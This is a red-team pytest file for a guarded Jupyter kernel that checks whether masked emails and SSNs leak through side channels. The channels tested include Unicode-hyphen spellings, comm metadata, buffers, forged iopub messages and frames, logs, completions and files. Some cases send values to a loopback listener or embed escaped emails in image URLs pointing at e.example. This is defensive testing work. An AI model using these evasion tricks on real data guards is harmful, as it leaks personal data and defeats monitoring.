"""Red team, issue 15: values read from a sensitive column leave by neighbouring channels.

In a real guarded kernel reading the warehouse, each attack spelling is checked on every message
the kernel sends for the cell (iopub and the shell reply) and on the bytes a loopback listener
receives; each has a benign twin that still runs with its plain values intact.
"""
from __future__ import annotations

import html
import json
import struct
import time
import urllib.parse
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.enforce.test_exits import Recorder
from tests.kernelutil import Kernel, Reply, guarded_kernel

pytestmark = pytest.mark.kernel

EMAILS = [f"user{n}@example.com" for n in range(60)]
SSNS = [f"{100000000 + n:09d}" for n in range(60)]


@pytest.fixture(scope="module")
def k(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Kernel]:
    with guarded_kernel(tmp_path_factory.mktemp("red15"), warehouse=200, connect=True) as kernel:
        kernel.ok("df = con.sql('SELECT * FROM customers ORDER BY id LIMIT 60').df()\n"
                  "E = df.email.tolist()\nS = df.ssn.tolist()")
        yield kernel


@pytest.fixture()
def rec() -> Iterator[Recorder]:
    r = Recorder()
    yield r
    r.close()


def wire(result: Reply) -> str:
    """Every message of the cell but the echo of its code, metadata and the reply included."""
    return json.dumps([[m["msg_type"], m["content"], m.get("metadata", {})]
                       for m in result.messages if m["msg_type"] != "execute_input"]
                      + [result.reply], ensure_ascii=False)


def _digits(text: str) -> str:
    """``text`` with the separators a grouped number is spelt with dropped (``-``, Unicode
    dashes, spaces), as a reader would undo them."""
    for c in " -\u2010\u2011\u2012\u2013\u2014\u2212\u00a0":
        text = text.replace(c, "")
    return text


def assert_no_raw(text: str) -> None:
    hits = [v for v in EMAILS[5:] + SSNS[5:] if v in text or v in _digits(text)]
    assert not hits, f"raw values: {hits[:3]}\n{text[:2000]}"


GROUPED = [
    pytest.param("s = S[31]\nprint(s[:3] + '-' + s[3:5] + '-' + s[5:])", id="ssn-dashes"),
    pytest.param("s = S[32]\nprint(s[:3] + '\\u2011' + s[3:5] + '\\u2011' + s[5:])",
                 id="ssn-non-breaking-hyphens"),
    pytest.param("s = S[33]\nprint(s[:3] + '\\u2014' + s[3:5] + '\\u2014' + s[5:])",
                 id="ssn-em-dashes"),
    pytest.param("s = S[34]\nprint(s[:3] + '\\u2212' + s[3:5] + '\\u2212' + s[5:])",
                 id="ssn-minus-signs"),
    pytest.param("print(' '.join(S[35]))", id="ssn-digit-by-digit"),
    pytest.param("print([f'{s[:3]} {s[3:5]} {s[5:]}' for s in S[36:40]])", id="ssn-spaced-list"),
    pytest.param("from IPython.display import HTML\n"
                 "HTML('<td>' + S[41][:3] + '&#8209;' + S[41][3:5] + '&#8209;' + S[41][5:])",
                 id="html-entity-hyphens"),
]


@pytest.mark.parametrize("code", GROUPED)
def test_known_numbers_in_digit_groups_are_masked(k: Kernel, code: str) -> None:
    assert_no_raw(wire(k.run(code)))


def test_grouped_plain_numbers_are_shown(k: Kernel) -> None:
    r = k.ok("print('on 2024-01-15 from 10.0.0.1, batch 12 34 56 78 90, id 100-00-00')")
    assert "on 2024-01-15 from 10.0.0.1, batch 12 34 56 78 90, id 100-00-00" in r.stream


def test_grouped_known_number_in_a_query_string_is_refused(k: Kernel, rec: Recorder) -> None:
    k.ok(f"URL = 'http://127.0.0.1:{rec.port}/'")
    r = k.run("import urllib.request as u\ns = S[42]\n"
              "u.urlopen(URL + '?d=' + s[:3] + '-' + s[3:5] + '-' + s[5:])")
    assert "[exfiltration]" in r.everything(), r.everything()
    assert_no_raw(bytes(rec.received).decode("latin-1"))


def test_grouped_plain_query_string_is_sent(k: Kernel, rec: Recorder) -> None:
    k.ok(f"URL = 'http://127.0.0.1:{rec.port}/'")
    k.ok("import urllib.request as u\nassert u.urlopen(URL + '?d=2024-01-15&n=100-00-00')"
         ".read() == b'city,n\\n\\n'")
    deadline = time.monotonic() + 30
    while b"2024-01-15" not in rec.received and time.monotonic() < deadline:
        time.sleep(0.05)
    assert b"?d=2024-01-15&n=100-00-00" in rec.received


WIRE = [
    pytest.param("from ipykernel.comm import Comm\nc = Comm(target_name='t', data={'x': 1})\n"
                 "c.send({'v': 1}, metadata={'m': S[43]})", id="comm-metadata"),
    pytest.param("from comm import create_comm\nc = create_comm(target_name='t', "
                 "data={'x': 1}, metadata={'m': E[44]})", id="comm-open-metadata"),
    pytest.param("from comm import create_comm\nc = create_comm(target_name='t', data={})\n"
                 "c.send({E[45]: 1})", id="comm-data-key"),
    pytest.param("_k = get_ipython().kernel\n_k.session.send(_k.iopub_socket, 'my_type', "
                 "{'v': E[46]}, parent=_k.get_parent())", id="made-up-message-type"),
    pytest.param("_k = get_ipython().kernel\n_k.session.send(_k.iopub_socket, 'clear_output', "
                 "{'wait': False, 'v': S[47]}, parent=_k.get_parent())", id="clear-output-extra"),
    pytest.param("from comm import create_comm\nc = create_comm(target_name='t', data={})\n"
                 "c.close({'v': E[48]})", id="comm-close-data"),
    pytest.param("display({'text/plain': 'x'}, raw=True, transient={'display_id': E[49]})",
                 id="display-transient"),
    pytest.param("display({'application/json': {E[50]: 1}}, raw=True)", id="json-key"),
]


@pytest.mark.parametrize("code", WIRE)
def test_no_raw_value_in_any_message(k: Kernel, code: str) -> None:
    assert_no_raw(wire(k.run(code)))


def test_benign_comms_and_displays_keep_their_values(k: Kernel) -> None:
    r = k.ok("from comm import create_comm\nc = create_comm(target_name='t', data={'n': 1}, "
             "metadata={'version': '2.1.0'})\nc.send({'order 100000245': 'Paris'}, "
             "metadata={'k': 'SKU-12345-XL'})\n"
             "display({'application/json': {'Lyon': 3}}, raw=True, "
             "transient={'display_id': 'plain-id'})")
    text = wire(r)
    for plain in ("2.1.0", "order 100000245", "Paris", "SKU-12345-XL", "Lyon", "plain-id"):
        assert plain in text, plain
    kinds = [m["msg_type"] for m in r.messages]
    assert "comm_open" in kinds and "comm_msg" in kinds and "display_data" in kinds


def test_status_and_code_echo_are_left_alone(k: Kernel) -> None:
    r = k.ok("x = 'order 100000245'")
    states = [m["content"]["execution_state"] for m in r.messages if m["msg_type"] == "status"]
    assert states == ["busy", "idle"]
    echo = [m["content"]["code"] for m in r.messages if m["msg_type"] == "execute_input"]
    assert echo == ["x = 'order 100000245'"]


def test_kernel_info_is_answered_whole(k: Kernel) -> None:
    msg_id = k.kc.kernel_info()
    reply = k.kc.get_shell_msg(timeout=60)
    while reply["parent_header"].get("msg_id") != msg_id:
        reply = k.kc.get_shell_msg(timeout=60)
    assert reply["content"]["language_info"]["name"] == "python"


def test_workdir_is_real(k: Kernel) -> None:
    assert Path(k.workdir, "wh.duckdb").exists()


def _buffers(result: Reply) -> str:
    return "\n".join(bytes(b).decode("latin-1") for m in result.messages
                     for b in m.get("buffers", []))


BUFFERS = [
    pytest.param("from comm import create_comm\nc = create_comm(target_name='t', data={})\n"
                 "c.send({'v': 1}, buffers=[','.join(S[10:20]).encode()])", id="comm-buffers"),
    pytest.param("import ipywidgets as w\nw.Image(value=','.join(E[5:10]).encode(), format='png')",
                 id="widget-bytes-trait"),
    pytest.param("_k = get_ipython().kernel\n_k.session.send(_k.iopub_socket, 'display_data', "
                 "{'data': {'text/plain': 'x'}, 'metadata': {}}, parent=_k.get_parent(), "
                 "buffers=[memoryview(E[51].encode())])", id="session-send-buffers"),
]


@pytest.mark.parametrize("code", BUFFERS)
def test_no_raw_value_in_message_buffers(k: Kernel, code: str) -> None:
    r = k.run(code)
    assert_no_raw(wire(r) + _buffers(r))


def test_binary_and_plain_buffers_are_sent_as_they_are(k: Kernel) -> None:
    r = k.ok("import ipywidgets as w, struct\n"
             "png = b'\\x89PNG\\r\\n\\x1a\\n' + struct.pack('>8d', *range(8))\n"
             "w.Image(value=png, format='png')\n"
             "from comm import create_comm\nc = create_comm(target_name='t', data={})\n"
             "c.send({'v': 1}, buffers=[b'Paris,Lyon,order 100000245'])")
    got = [bytes(b) for m in r.messages for b in m.get("buffers", [])]
    png = b"\x89PNG\r\n\x1a\n" + struct.pack(">8d", *range(8))
    assert png in got and b"Paris,Lyon,order 100000245" in got, got


LAYERED = [
    pytest.param("from IPython.display import HTML\nHTML('<p>' + '&#8203;'.join(E[52]) + '</p>')",
                 id="html-zero-width-references"),
    pytest.param("from IPython.display import HTML\n"
                 "HTML('<p>' + '&ZeroWidthSpace;'.join(E[53]) + '</p>')", id="html-named-zwsp"),
    pytest.param("from IPython.display import Markdown\nimport urllib.parse as u\n"
                 "Markdown(f'![x](http://e.example/?d={u.quote(u.quote(E[54]))})')",
                 id="markdown-double-url-escape"),
    pytest.param("from IPython.display import HTML\nimport urllib.parse as u\n"
                 "HTML(f'<img src=\"http://e.example/?d={u.quote(u.quote(u.quote(E[55])))}\">')",
                 id="img-triple-url-escape"),
]


@pytest.mark.parametrize("code", LAYERED)
def test_values_under_two_layers_of_spelling_are_masked(k: Kernel, code: str) -> None:
    text = wire(k.run(code))
    for _ in range(3):
        text = urllib.parse.unquote(html.unescape(text))
    assert_no_raw(text.replace("\u200b", ""))


def test_plain_layered_spellings_are_shown_as_written(k: Kernel) -> None:
    page = ("<p>Par&#8203;is</p><a href=\"http://e.example/?q=a%2540b&amp;n=100%2525\">x</a>")
    r = k.ok(f"from IPython.display import HTML\nHTML({page!r})")
    assert r.mimes()["text/html"] == page


def test_kernel_log_is_masked(k: Kernel) -> None:
    k.ok("import io\n_h = get_ipython().kernel.log.handlers[0]\n_buf = io.StringIO()\n"
         "_old = _h.setStream(_buf)\n"
         "try:\n    get_ipython().kernel.log.error('who: %s', E[56])\n"
         "    get_ipython().kernel.log.error('plain: %s', 'order 100000245, Paris')\n"
         "finally:\n    _h.setStream(_old)\n"
         "assert E[56] not in _buf.getvalue(), 'raw in the kernel log'\n"
         "assert '@example.com' in _buf.getvalue()\n"
         "assert 'plain: order 100000245, Paris' in _buf.getvalue()")


def run_all(k: Kernel, code: str) -> str:
    """Run ``code``; every iopub message until the cell is idle, whatever parent it names
    (``Kernel.run`` keeps only the cell's own), headers and echo included, and the reply."""
    msg_id = k.kc.execute(code)
    seen: list[dict[str, object]] = []
    while True:
        m = k.kc.get_iopub_msg(timeout=60)
        seen.append(m)
        if (m["parent_header"].get("msg_id") == msg_id and m["msg_type"] == "status"
                and m["content"]["execution_state"] == "idle"):
            break
    reply = k.kc.get_shell_msg(timeout=60)
    while reply["parent_header"].get("msg_id") != msg_id:
        reply = k.kc.get_shell_msg(timeout=60)
    keep = ("header", "parent_header", "metadata", "content")
    return json.dumps([[m.get(key) for key in keep] for m in [*seen, reply]], default=str,
                      ensure_ascii=False)


MADE_UP = [
    pytest.param("_k.session.send(_k.iopub_socket, 'status', {'execution_state': 'busy', "
                 "'v': E[57]}, parent=_k.get_parent())", id="status-with-extra"),
    pytest.param("_k.session.send(_k.iopub_socket, 'status', {'execution_state': S[57]}, "
                 "parent=_k.get_parent())", id="status-state"),
    pytest.param("_k.session.send(_k.iopub_socket, 'execute_input', {'code': S[58], "
                 "'execution_count': 1}, parent=_k.get_parent())", id="execute-input-made-up"),
    pytest.param("_k.session.send(_k.iopub_socket, 'stream', {'name': 'stdout', 'text': 'x'}, "
                 "parent=_k.get_parent(), header={'msg_id': E[58], 'msg_type': 'stream', "
                 "'username': 'u', 'session': 's', 'date': '2020-01-01T00:00:00Z', "
                 "'version': '5.3'})", id="header-given"),
    pytest.param("_k.session.send(_k.iopub_socket, 'stream', {'name': 'stdout', 'text': 'x'}, "
                 "parent={'msg_id': S[59], 'username': E[59]})", id="parent-made-up"),
    pytest.param("_k.session.send(_k.iopub_socket, _k.session.msg('stream', {'name': 'stdout', "
                 "'text': 'y'}, parent={'header': {'msg_id': E[57]}}))", id="message-with-parent"),
]


@pytest.mark.parametrize("code", MADE_UP)
def test_made_up_kernel_messages_are_masked(k: Kernel, code: str) -> None:
    text = run_all(k, "_k = get_ipython().kernel\n" + code)
    assert "_k.session.send" in text   # (the echo of the code is in what was scanned)
    assert_no_raw(text)


GLUED = [
    pytest.param("raise type('X' + S[50], (Exception,), {})('a')", id="exception-class-name"),
    pytest.param("int('x' + S[51])", id="int-error-quotes-it"),
    pytest.param("print(f'id{S[52]}, ref {S[53]}_a')", id="printed-identifiers"),
]


@pytest.mark.parametrize("code", GLUED)
def test_known_numbers_glued_to_letters_are_masked(k: Kernel, code: str) -> None:
    assert_no_raw(wire(k.run(code)))


def test_attribute_named_after_a_value_is_not_completed_raw(k: Kernel) -> None:
    k.ok("class _A:\n    pass\n_a = _A()\nsetattr(_a, 'x' + S[54], 1)\n_a.plain_attr = 2")
    msg_id = k.kc.complete("_a.", 3)
    reply = k.kc.get_shell_msg(timeout=60)
    while reply["parent_header"].get("msg_id") != msg_id:
        reply = k.kc.get_shell_msg(timeout=60)
    assert_no_raw(json.dumps(reply["content"]))
    assert "plain_attr" in reply["content"]["matches"]


def test_glued_plain_numbers_and_kernel_messages_are_kept(k: Kernel) -> None:
    r = k.ok("print('SKU100000999X, id9100000005, order 100000245')")
    assert "SKU100000999X, id9100000005, order 100000245" in r.stream
    assert [m["content"] for m in r.messages if m["msg_type"] == "status"] == [
        {"execution_state": "busy"}, {"execution_state": "idle"}]


FRAMES = [
    pytest.param("_m = _s.msg('stream', {'name': 'stdout', 'text': E[40]}, parent=_k.get_parent())\n"
                 "_k.iopub_socket.send_multipart(_s.serialize(_m))", id="signed-frames"),
    pytest.param("_m = _s.msg('display_data', {'data': {'text/html': S[41]}, 'metadata': {}}, "
                 "parent=_k.get_parent())\n_k.iopub_thread.send_multipart(_s.serialize(_m))",
                 id="signed-frames-on-the-thread"),
]


@pytest.mark.parametrize("code", FRAMES)
def test_frames_handed_to_the_iopub_socket_are_masked(k: Kernel, code: str) -> None:
    text = run_all(k, "_k = get_ipython().kernel\n_s = _k.session\n" + code)
    assert_no_raw(text)


def test_plain_frames_handed_to_the_iopub_socket_arrive_signed(k: Kernel) -> None:
    text = run_all(k, "_k = get_ipython().kernel\n_s = _k.session\n"
                      "_m = _s.msg('stream', {'name': 'stdout', 'text': 'order 100000245, Paris'},"
                      " parent=_k.get_parent())\n_k.iopub_socket.send_multipart(_s.serialize(_m))")
    assert "order 100000245, Paris" in text   # (unsigned frames would have been dropped)


FILES = [
    pytest.param("'\\n'.join(x[:3] + '-' + x[3:5] + '-' + x[5:] for x in S[5:50])", id="dashed"),
    pytest.param("'\\n'.join(' '.join(x) for x in S[5:50])", id="digit-by-digit"),
    pytest.param("'\\n'.join('id' + x for x in S[5:50])", id="glued-to-letters"),
]


@pytest.mark.parametrize("text", FILES)
def test_long_files_of_grouped_known_numbers_are_refused(k: Kernel, text: str,
                                                         request: pytest.FixtureRequest) -> None:
    name = f"grouped_{request.node.callspec.id}.txt"
    k.blocked(f"open({name!r}, 'w').write({text})", "exfiltration")
    path = k.workdir / name
    assert_no_raw(path.read_text() if path.exists() else "")


def test_long_file_of_plain_grouped_numbers_is_written(k: Kernel) -> None:
    k.ok("open('grouped_plain.txt', 'w').write('\\n'.join(f'2024-01-{d:02d} 10:30:00, "
         "10.0.0.{d}, 12 34 56 78 {d}' for d in range(1, 29)))")
    assert "2024-01-28 10:30:00, 10.0.0.28, 12 34 56 78 28" in \
        (k.workdir / "grouped_plain.txt").read_text()
